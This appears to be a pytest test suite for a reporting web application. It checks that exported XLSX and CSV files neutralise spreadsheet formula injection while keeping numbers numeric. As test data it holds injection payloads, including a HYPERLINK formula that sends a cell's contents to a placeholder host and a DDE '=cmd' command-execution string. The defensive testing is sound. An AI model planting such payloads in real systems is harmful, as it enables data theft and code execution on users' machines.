"""Formula injection (docs/security.md): what a unit typed is never a live formula in a spreadsheet a
user downloads — XLSX, CSV, analysis, usage, exchange CSV, units, incidents — and numbers stay numbers.

The penetration test's case: a commune saves ``notes`` = ``=HYPERLINK("http://x/?d="&C2,"Xem")``; after
approval the XLSX export held a live formula and the CSVs held it raw.
"""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.exchange import csv_format
from core.exchange.datavalues import DataValue, ValueSet
from core.hierarchy import unit_csv
from core.hierarchy.models import Unit
from core.platform import tabular
from core.platform.extensions import db
from core.reporting import entry
from tests.conftest import login
from tests.test_exchange import DISTRICT, _admin_headers, _export, _reopen_and_clear, _resubmit_and_approve
from tests.test_rollup import VALUES, _approve, _fill, _form_period, _headers, _report, cb  # noqa: F401

FORMULA = '=HYPERLINK("http://x/?d="&C2,"Xem")'
PHONE = "+84 912 345 678"


@pytest.mark.parametrize("text, written", [
    (FORMULA, "'" + FORMULA), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (PHONE, "'" + PHONE), ("'=1", "''=1"),
    ("-5", "-5"), ("+5", "+5"), ("1234.5", "1234.5"), ("-0.25", "-0.25"),  # plain numbers stay numbers
    ("Xã Trường Hà", "Xã Trường Hà"), ("", ""), ("'quoted'", "'quoted'"), ("a=b", "a=b"),
])
def test_text_that_starts_a_formula_gets_an_apostrophe_and_a_plain_number_does_not(text, written):
    assert tabular.neutralise(text) == written
    assert tabular.restore(written) == text


@settings(max_examples=300, deadline=None, database=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r'0123456789.aZ ")))
def test_restore_undoes_neutralise_exactly(text):
    assert tabular.restore(tabular.neutralise(text)) == text


def test_numbers_are_written_as_numbers_and_text_as_text():
    assert tabular.csv_row([-5, Decimal("2.50"), Decimal("3"), None, "=1+1"]) == ["-5", "2.5", "3", "", "'=1+1"]
    from openpyxl import load_workbook

    data = tabular.xlsx_bytes("Phân tích", ["=A", "Tổng"], [["=1+1", -5], [FORMULA, Decimal("1.5")]])
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.data_type for c in cells] == ["s", "s", "s", "n", "s", "n"]
    assert [c.value for c in cells] == ["'=A", "Tổng", "'=1+1", -5, "'" + FORMULA, 1.5]


@pytest.fixture
def hyperlink(cb):
    """The pen-test's commune: X011's notes are a formula; every commune approved up to the board."""
    with cb.app_context():
        for code, district in DISTRICT.items():
            _fill(code, {**VALUES[code], "notes": FORMULA if code == "X011" else PHONE})
            _approve(code, district)
    return cb


def _export_file(client, app, fmt):
    form, period = _form_period(app)
    resp = client.get(f"/api/v1/export/?form={form}&period={period}&unit=04&format={fmt}",
                      headers=_headers(app, "04"))
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    return resp.data


def test_the_xlsx_export_holds_the_formula_as_text_and_the_numbers_as_numbers(hyperlink, client):
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(_export_file(client, hyperlink, "xlsx"))).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # not one live formula
    notes = next(c for c in cells if "HYPERLINK" in str(c.value))
    assert (notes.data_type, notes.value) == ("s", "'" + FORMULA)
    phone = next(c for c in cells if "912" in str(c.value))
    assert phone.value == "'" + PHONE
    assert any(c.data_type == "n" and c.value == 100 for c in cells)  # X011's households, a number


def test_the_csv_export_neutralises_the_formula(hyperlink, client):
    rows = list(csv.reader(io.StringIO(_export_file(client, hyperlink, "csv").decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert "100" in cells  # numbers as they are


def test_the_dhis2_csv_neutralises_text_and_reads_its_own_export_back_unchanged(hyperlink, client, admin):
    first = _export(client, hyperlink, "csv")
    values = [row[5] for row in csv.reader(io.StringIO(first.get_data(as_text=True)))]
    assert "'" + FORMULA in values and "'" + PHONE in values and FORMULA not in values
    assert "100" in values
    with hyperlink.app_context():
        for code in DISTRICT:
            _reopen_and_clear(code)
    form, _period = _form_period(hyperlink)
    resp = client.post(f"/api/v1/exchange/datavaluesets?format=csv&form={form}", data=first.get_data(),
                       content_type="text/csv", headers=_admin_headers(hyperlink, admin))
    assert resp.status_code == 200, resp.get_json()
    with hyperlink.app_context():
        assert entry.values_of(db.session, _report("X011"))[("notes", "")] == FORMULA  # not "'=HYPERLINK…"
        assert entry.values_of(db.session, _report("X012"))[("notes", "")] == PHONE
        for code in DISTRICT:
            _resubmit_and_approve(code)
    assert _export(client, hyperlink, "csv").get_data() == first.get_data()


def test_a_negative_number_and_a_phone_number_round_trip_through_the_dhis2_csv():
    """The decision (docs/security.md): a plain number is written as it is, any other text starting like a
    formula gets an apostrophe, and our importer takes it off."""
    values = ValueSet(values=[DataValue("a", "2026", "X011", v, coc="default") for v in
                              ("-5", "+5", "-0.5", PHONE, FORMULA, "'=already quoted", "@mention", "1234.5")])
    text = csv_format.dumps(values)
    written = [row[5] for row in csv.reader(io.StringIO(text))][1:]
    assert written == ["-5", "+5", "-0.5", "'" + PHONE, "'" + FORMULA, "''=already quoted", "'@mention", "1234.5"]
    assert [v.value for v in csv_format.loads(text).values] == [v.value for v in values.values]


def test_the_units_csv_neutralises_names_and_imports_its_own_export_unchanged(cb):
    with cb.app_context():
        unit = db.session.query(Unit).filter_by(code="X011").one()
        unit.name = "=cmd|' /C calc'!A0"
        db.session.commit()
        data, _count = unit_csv.export_csv(db.session)
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert ["X011", "'=cmd|' /C calc'!A0"] == rows[[r[0] for r in rows].index("X011")][:2]
        read, problems = unit_csv.read(data)
        assert problems == [] and next(r for r in read if r.code == "X011").name == "=cmd|' /C calc'!A0"


def test_the_units_screen_download_is_neutralised(cb, admin):
    with cb.app_context():
        db.session.query(Unit).filter_by(code="X012").update({"name": "@SUM(1+1)*cmd"})
        db.session.commit()
    client = cb.test_client()
    login(client, "admin", admin["password"])
    text = client.get("/units/export.csv").data.decode("utf-8-sig")
    assert "'@SUM(1+1)*cmd" in text and ",@SUM" not in text


def test_the_usage_download_neutralises_unit_names(cb, admin):
    with cb.app_context():
        db.session.query(Unit).filter_by(code="X021").update({"name": "-1+cmd"})
        db.session.commit()
    client = cb.test_client()
    login(client, "admin", admin["password"])
    rows = list(csv.reader(io.StringIO(client.get("/usage/export.csv").data.decode("utf-8-sig"))))
    assert ["X021", "'-1+cmd"] == next(r for r in rows if r[0] == "X021")[:2]


def test_the_incident_download_neutralises_text(app, admin):
    from tests.test_incidents import INCIDENT

    client = app.test_client()
    login(client, "admin", admin["password"])
    assert client.post("/incidents/add", data={**INCIDENT, "title": "=1+1", "description": "+cmd"}).status_code == 302
    rows = list(csv.reader(io.StringIO(client.get("/incidents/export.csv").data.decode("utf-8-sig"))))
    assert "'=1+1" in rows[1] and "'+cmd" in rows[1] and "=1+1" not in rows[1]
